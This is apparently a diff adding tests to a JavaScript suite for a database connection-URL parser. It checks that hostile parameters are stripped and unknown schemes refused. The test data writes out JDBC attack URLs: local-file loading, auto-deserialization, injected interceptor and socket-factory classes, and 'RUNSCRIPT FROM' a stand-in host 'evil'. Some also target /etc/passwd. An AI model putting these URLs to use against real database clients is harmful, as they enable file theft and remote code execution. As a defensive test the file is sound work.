@@ -21,6 +21,29 @@ describe("the url of a setting", () => {
     expect(place(url)).toMatchObject(parts);
   });
 
+  it.each([
+    "jdbc:mysql://h/x?allowLoadLocalInfile=true&allowUrlInLocalInfile=true&autoDeserialize=true",
+    "jdbc:mysql://h/x?%61llowLoadLocalInfile=true&ALLOWLOADLOCALINFILE=true&queryInterceptors=com.evil.X",
+    "jdbc:mysql://h/x?allowLoadLocalInfile%3Dtrue;autoDeserialize=yes",
+    "jdbc:postgresql://h/x?socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x&sslfactory=com.evil.X",
+    "jdbc:postgresql://h/x?options=-c%20session_preload_libraries=evil&loggerFile=/tmp/x&loggerLevel=TRACE",
+    "jdbc:mariadb://h/x?init=RUNSCRIPT%20FROM%20'http://evil/x.sql'&sessionVariables=sql_mode=''&serverRsaPublicKeyFile=/etc/passwd",
+  ])("brings nothing that a driver would load, read or run: %s", (url) => {
+    const clean = place(url.replace(/\?.*/, ""));
+    expect({ ...Object(place(url)), url: "" }).toEqual({ ...Object(clean), url: "" });
+  });
+
+  it.each([
+    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+    "jdbc:hive2://h/x",
+    "jdbc:sqlite:/etc/passwd",
+    "file:///etc/passwd",
+    "jdbc:constructor://h/x",
+    "jdbc:__proto__://h/x",
+  ])("of another product is refused in words: %s", (url) => {
+    expect(place(url)).toMatch(/no driver for|not understood/);
+  });
+
   it("gives way to properties of their own", () => {
     const own = { "default.user": "grace", "default.password": "hopper", "default.timeout": "30" };
     expect(place("mysql://ada:x@h/x", own)).toMatchObject({ user: "grace", password: "hopper", timeoutSeconds: 30 });
